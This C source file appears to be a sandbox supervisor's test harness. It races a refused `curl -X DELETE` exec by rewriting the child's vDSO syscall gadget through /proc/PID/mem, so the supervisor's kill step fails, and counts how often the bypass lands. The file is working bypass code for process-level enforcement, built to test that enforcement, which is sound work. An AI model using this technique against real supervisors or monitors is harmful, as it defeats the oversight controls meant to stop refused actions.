/* A refused exec (`PROG -s -X DELETE URL`, PROG a program named curl) is let commit under the
 * supervisor's seize and ended at its exec event: exit_group(126) run in it through the vDSO's
 * `syscall` instruction (two single steps). From the commit on, this process (its parent, as any
 * process of the tree may) writes the new image's vDSO through /proc/PID/mem, over the gadget,
 * until the child is gone, so that the step runs another instruction:
 *
 *   refused-race xor|loop N PROG URL
 *
 *   xor   `xor eax, eax` (31 c0): two bytes that leave rax 0 and go on to the next instruction.
 *   loop  `jmp $` (eb fe): the step ends where it began, as a syscall that returned would not.
 *
 * The window is widened as seal-race.c does: a spinner and the child pinned to CPU 0 (the child
 * at nice 19), this process on CPU 1. N tries; prints "tries N ended E killed K ran R refused F
 * wrote W missed M": the child exited 126 (ended), died of a signal (killed), exited otherwise
 * (ran: the refused image ran code of its own), or its exec failed with EPERM (refused); W: the
 * tries where a write into its vDSO landed; M: tries where it was gone before a write was tried.
 * Every syscall is checked; a failure exits 2. */
#include "race.h"
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* True once the child's exec committed (its name is curl) and while it is not a zombie. */
static int committed(pid_t c, int *gone)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", c);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (fd >= 0)
        close(fd);
    if (n <= 0) {
        *gone = 1;
        return 0;
    }
    buf[n] = 0;
    char *rp = strrchr(buf, ')');
    *gone = rp == NULL || rp[1] != ' ' || rp[2] == 'Z' || rp[2] == 'X';
    return !*gone && strstr(buf, "(curl)") != NULL;
}

static int try_once(const char *insn, const char *prog, const char *url, long goff, int *wrote, int *missed)
{
    char *av[] = {(char *)prog, (char *)"-s", (char *)"-X", (char *)"DELETE", (char *)url, NULL};
    char *ev[] = {(char *)"PATH=/usr/bin:/bin", NULL};
    pid_t c = start_exec(prog, av, ev);
    int gone = 0, landed = 0;
    double deadline = now() + 2;
    while (!committed(c, &gone) && !gone && now() < deadline) {
    }
    if (!gone) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", c);
        int mem = open(path, O_RDWR | O_CLOEXEC);
        unsigned long vdso = mem >= 0 ? vdso_of(c) : 0;
        /* Over and over until it is gone: before the gadget's check, between it and each step. */
        while (vdso != 0 && committed(c, &gone) && now() < deadline)
            if (pwrite(mem, insn, 2, vdso + goff) == 2)
                landed = 1;
        if (mem >= 0)
            close(mem);
    }
    if (landed)
        (*wrote)++;
    else
        (*missed)++;
    int st = finish_exec(c);
    if (WIFSIGNALED(st))
        return 1;
    return WEXITSTATUS(st) == 126 ? 0 : WEXITSTATUS(st) == 100 ? 3 : 2;
}

int main(int argc, char **argv)
{
    if (argc != 5 || (strcmp(argv[1], "xor") != 0 && strcmp(argv[1], "loop") != 0)) {
        fprintf(stderr, "usage: refused-race xor|loop N PROG URL\n");
        return 2;
    }
    const char *insn = strcmp(argv[1], "xor") == 0 ? "\x31\xc0" : "\xeb\xfe";
    int n = atoi(argv[2]);
    setvbuf(stdout, NULL, _IONBF, 0);
    long goff = need_gadget();
    pid_t spinner = start_spinner();
    int counts[4] = {0, 0, 0, 0}, wrote = 0, missed = 0;
    for (int i = 0; i < n; i++)
        counts[try_once(insn, argv[3], argv[4], goff, &wrote, &missed)]++;
    stop_spinner(spinner);
    printf("tries %d ended %d killed %d ran %d refused %d wrote %d missed %d\n", n, counts[0], counts[1], counts[2], counts[3], wrote, missed);
    return 0;
}
